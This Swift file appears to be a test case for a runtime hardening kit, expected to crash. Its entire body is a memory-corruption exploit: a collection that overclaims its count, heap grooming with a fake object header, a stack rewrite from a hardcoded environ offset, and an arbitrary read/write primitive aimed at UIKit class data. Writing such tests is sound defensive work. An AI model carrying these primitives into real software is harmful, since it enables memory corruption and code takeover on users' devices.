// Attack: claims more elements than there are addresses, and takes the claim back on the stack while the elements are copied.
// Exercise: 3
// Expect: crashed
// Held by: the kit copies what a sequence has, and not what it claims
import UIKit

final class Head { var count = Int.max, capacity = Int.max }
final class Holder { var p = 1, q = 2; var list: [Int] = [] }
let claim = 1 << 61
struct Words: IteratorProtocol {
    var given = 0
    mutating func next() -> Int? {
        if given == Mem.words.count {
            [1].forEach { _ in [1].forEach { _ in Mem.takeBack() } }
            return nil
        }
        given += 1
        return Mem.words[given - 1]
    }
}
struct Claim: Collection {
    var startIndex: Int { 0 }
    var endIndex: Int { claim }
    var count: Int { claim }
    func index(after i: Int) -> Int { i + 1 }
    subscript(i: Int) -> Int { 0 }
    func makeIterator() -> Words { Words() }
}
enum Mem {
    nonisolated(unsafe) static let head = Head()
    nonisolated(unsafe) static var holders: [Holder?] = []
    nonisolated(unsafe) static var words: [Int] = []
    nonisolated(unsafe) static var at = -1
    nonisolated(unsafe) static var base: UInt = 0
    static func begin() {
        for _ in 0..<200 { holders.append(Holder()) }
        words = [0, 0x31, Int(bitPattern: ObjectIdentifier(Holder.self)), 3, 1, 2, Int(bitPattern: ObjectIdentifier(head))]
        holders[150] = nil
        print(Array(Claim()).count)
    }
    static func takeBack() {
        for i in holders.indices where holders[i]?.list.count == Int.max { at = i }
        guard base == 0 else { return }
        base = UInt(bitPattern: ObjectIdentifier(head)) &+ 32
        let library = UInt(bitPattern: Mem[UInt(bitPattern: ObjectIdentifier(UIView.self)) &- 0xCE30]) &- 0xF8340
        var place = UInt(bitPattern: Mem[library &+ 0x1DB320]) & ~7 // environ, above all frames
        for _ in 0..<8_000 {
            if Mem[place] == claim { Mem[place] = words.count }
            place -= 8
        }
    }
    static subscript(a: UInt) -> Int {
        get { holders[at]!.list[Int((a &- base) >> 3)] }
        set { holders[at]!.list[Int((a &- base) >> 3)] = newValue }
    }
}
class BaseView: UIView {
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23320
    static var old = 0
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        if Mem.base == 0 { Mem.begin() }
        BaseView.old = Mem[BaseView.kinds]
        Mem[BaseView.kinds] = 0
        defer { Mem[BaseView.kinds] = BaseView.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Mem[BaseView.kinds] = BaseView.old
        return super.point(inside: point, with: event)
    }
}
